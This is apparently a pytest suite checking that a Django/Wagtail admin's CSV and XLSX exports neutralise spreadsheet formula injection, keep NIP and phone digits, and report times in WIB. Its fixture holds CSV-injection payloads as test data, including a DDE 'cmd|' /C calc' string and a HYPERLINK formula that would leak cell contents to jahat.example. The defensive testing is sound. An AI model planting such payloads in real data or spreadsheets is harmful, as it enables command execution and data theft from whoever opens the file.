"""Every spreadsheet the admin exports, ours and Wagtail's own reports: no cell runs as a
formula, identity numbers keep their digits, and times are in WIB."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from content.base import exports
from content.training.models import Attendance
from tests.factories.articles import ArticlePageFactory
from tests.factories.people import AgencyFactory, ParticipantFactory
from tests.factories.training import SessionPageFactory, mark_attendance
from tests.factories.users import UserFactory

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Texts made of what matters to a spreadsheet: separators, quotes, apostrophes, spaces,
# formula triggers (ASCII and full-width), and some letters and digits.
TRICKY_TEXT = st.text(alphabet="ab1 \"',;\t|\r\n=+-@\uff1d\uff0b\uff0d\uff20", max_size=12)


def _export_urls(patterns=None, namespace=""):
    """The admin's list views that can export a spreadsheet, by URL."""
    patterns = get_resolver().url_patterns if patterns is None else patterns
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            space = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
            yield from _export_urls(pattern.url_patterns, space)
        elif isinstance(pattern, URLPattern) and pattern.name:
            view_class = getattr(pattern.callback, "view_class", None)
            exports = view_class and issubclass(view_class, SpreadsheetExportMixin)
            if exports and not pattern.pattern.regex.groupindex:
                yield reverse(f"{namespace}{pattern.name}")


class TestTheWriter:
    @settings(max_examples=400, deadline=None)
    @given(TRICKY_TEXT)
    def test_no_part_of_a_text_starts_a_formula_under_any_separator(self, text):
        written = exports.csv_text([[text, 1]])
        for delimiter in ",;\t|":
            for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
                rows = csv.reader(
                    io.StringIO(written, newline=""), delimiter=delimiter, quoting=quoting
                )
                for cell in (cell.lstrip(' "') for row in rows for cell in row):
                    assert not cell.startswith(exports.FORMULA_STARTS)

    @settings(max_examples=400, deadline=None)
    @given(TRICKY_TEXT)
    def test_a_written_text_reads_back_exactly(self, text):
        [[cell]] = csv.reader(io.StringIO(exports.csv_text([[text]]), newline=""), strict=True)
        assert exports.restore_cell(cell) == text

    def test_text_is_quoted_numbers_are_not_and_lines_end_in_crlf(self):
        row = ["Budi", 3, 2.5, Decimal("1.25"), None, True, datetime.date(2026, 1, 2), "0812"]
        assert exports.csv_text([row]) == ('"Budi",3,2.5,1.25,"","True","2026-01-02","0812"\r\n')

    def test_a_file_starts_with_a_bom_and_its_lines_do_not(self):
        assert exports.csv_file([["Dédé"]]).encode() == b'\xef\xbb\xbf"D\xc3\xa9d\xc3\xa9"\r\n'
        assert not exports.csv_text([["Dédé"]]).startswith(exports.BOM)

    def test_the_digits_of_older_exports_read_back(self):
        assert exports.restore_cell('="198501012010011001"') == "198501012010011001"

    def test_an_apostrophe_already_there_gets_one_more(self):
        assert exports.safe_csv_cell("Budi;'=1") == "Budi;''=1"
        assert exports.restore_cell("Budi;''=1") == "Budi;'=1"


@pytest.fixture
def hostile_data(site_tree):
    agency = AgencyFactory(name="@SUM(1+1)*cmd|' /C calc'!A0")
    person = ParticipantFactory(
        full_name='=HYPERLINK("http://jahat.example/?d="&A1,"Klik")',
        nip="198501012010011001",
        agency=agency,
        phone="081234567890",
        position="+628123",
    )
    session = SessionPageFactory(parent=site_tree.sessions, title="-2+3 Sosialisasi")
    mark_attendance(session, person)
    ArticlePageFactory(parent=site_tree.materials, title="=1+1 Materi").save_revision().publish()
    return person


def _csv_rows(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.mark.django_db
def test_there_are_exports_to_check():
    urls = set(_export_urls())
    assert {"/admin/participant/", "/admin/attendance/", "/admin/registration/"} <= urls
    assert any(url.startswith("/admin/reports/") for url in urls)


@pytest.mark.django_db
def test_no_csv_cell_of_any_export_starts_a_formula(client, hostile_data):
    client.force_login(UserFactory(username="admin", is_superuser=True, is_staff=True))
    checked = 0
    for url in _export_urls():
        response = client.get(url, {"export": "csv"})
        assert response.status_code == 200, url
        for row in _csv_rows(response)[1:]:
            for cell in row:
                checked += 1
                assert not cell.startswith(FORMULA_STARTS), (url, cell)
    assert checked > 20


@pytest.mark.django_db
def test_identity_numbers_and_phones_keep_every_digit(client, hostile_data):
    client.force_login(UserFactory(username="admin", is_superuser=True, is_staff=True))
    [heading, row] = _csv_rows(client.get("/admin/participant/", {"export": "csv"}))
    cells = dict(zip(heading, row, strict=True))
    assert cells["NIP"] == "198501012010011001"
    assert cells["Telepon"] == "081234567890"
    assert cells["Nama"].startswith("'=HYPERLINK(")
    assert cells["Jabatan"] == "'+628123"


@pytest.mark.django_db
def test_attendance_times_are_in_wib_in_csv_and_xlsx(client, hostile_data):
    attendance = Attendance.objects.get()
    utc = datetime.datetime(2026, 11, 20, 9, 41, tzinfo=datetime.UTC)
    Attendance.objects.filter(pk=attendance.pk).update(checked_in_at=utc)
    client.force_login(UserFactory(username="admin", is_superuser=True, is_staff=True))

    [heading, row] = _csv_rows(client.get("/admin/attendance/", {"export": "csv"}))
    assert dict(zip(heading, row, strict=True))["Waktu presensi (WIB)"] == "2026-11-20 16:41:00"

    response = client.get("/admin/attendance/", {"export": "xlsx"})
    body = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = load_workbook(io.BytesIO(body)).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    column = values[0].index("Waktu presensi (WIB)")
    assert values[1][column] == datetime.datetime(2026, 11, 20, 16, 41)
    assert timezone.get_default_timezone_name() == "Asia/Jakarta"
